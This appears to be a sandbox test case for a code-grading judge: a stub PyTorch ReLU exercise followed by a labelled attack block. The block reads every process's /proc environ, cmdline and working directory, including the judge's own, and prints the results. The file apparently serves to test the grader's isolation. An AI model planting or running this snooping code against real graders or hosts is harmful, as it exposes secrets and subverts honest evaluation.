# attack: read the judge's /proc/<pid>/environ, cmdline and cwd (and every other process's)
# exercise: exercise2
# expect: not_attempted
# host: proc_snoop
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    return ReLU.apply(x)


# --- attack ---
import os

found = {}
pids = {str(os.getppid()), "1", "self"}
try:
    pids.update(name for name in os.listdir("/proc") if name.isdigit())
except OSError:
    pass
for pid in sorted(pids):
    for item in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{item}", "rb") as handle:
                found[f"{pid}/{item}"] = handle.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            pass
    try:
        found[f"{pid}/cwd"] = os.readlink(f"/proc/{pid}/cwd")
        found[f"{pid}/cwd-list"] = " ".join(os.listdir(f"/proc/{pid}/cwd"))
    except OSError:
        pass
print("SNOOPED", found)
# --- end attack ---
